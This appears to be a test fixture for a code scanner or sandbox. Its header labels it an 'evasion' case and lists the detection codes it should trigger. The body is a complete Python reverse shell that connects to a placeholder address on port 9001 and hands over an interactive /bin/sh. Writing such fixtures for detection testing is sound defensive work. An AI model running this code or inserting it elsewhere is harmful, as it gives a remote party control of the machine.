# label: evasion
# family: imports
import socket,subprocess,os  # want: SBX101 SBX101
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.3", 9001))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
